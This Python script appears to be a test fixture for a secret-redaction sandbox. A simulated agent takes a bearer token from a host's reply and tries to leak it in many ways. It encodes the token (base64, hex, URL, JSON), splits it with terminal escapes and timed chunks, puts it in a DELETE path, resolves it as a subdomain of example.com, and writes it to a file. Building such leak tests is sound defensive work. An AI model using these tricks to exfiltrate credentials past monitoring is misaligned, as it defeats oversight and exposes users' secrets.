# SPDX-License-Identifier: Apache-2.0
"""An agent that was told a secret by a host it may reach, and says it in every way that it can think of."""
import base64
import json
import sys
import time
import urllib.parse

from inside import ask, connect

with open("requests.json") as file:
    (request,) = json.load(file)
answer = ask(request).decode()
# What the echo got, in the header's own form: "Bearer VALUE".
value = next(line.split(": ", 1)[1] for line in answer.splitlines() if line.lower().startswith("authorization: "))
value = value.removeprefix("Bearer ").rstrip("\r")

print("plain", value, flush=True)
print("bearer Bearer " + value, file=sys.stderr, flush=True)
print("json", json.dumps({"value": value}))
print("json twice", json.dumps({"text": json.dumps({"value": value})}))
print("url", urllib.parse.quote(value, safe=""))
print("base64", base64.b64encode(value.encode()).decode())
print("basic", base64.b64encode(b"user:" + value.encode()).decode())
print("base64url", base64.urlsafe_b64encode(b"x" + value.encode()).decode())
print("hex", value.encode().hex())
# An escape of the terminal in the midst of it is taken out before the line is shown.
print("hidden", value[:5] + "\x1b[0m" + value[5:], flush=True)
sys.stdout.write("pieces " + value[:4])
sys.stdout.flush()
time.sleep(0.3)
sys.stdout.write(value[4:9])
sys.stdout.flush()
time.sleep(0.3)
print(value[9:])
# Refused, and recorded.
ask({**request, "method": "DELETE", "path": "/refused/" + urllib.parse.quote(value, safe=""), "headers": []})
if value.replace("-", "").isalnum():
    connect(value.upper() + ".example.com", 443)
print("length", len(value))
if "file" in request["path"]:
    with open("new.txt", "w") as file:
        file.write("a line\nkey=" + value + "\n")
else:
    with open("new.txt", "w") as file:
        file.write("a line\n")
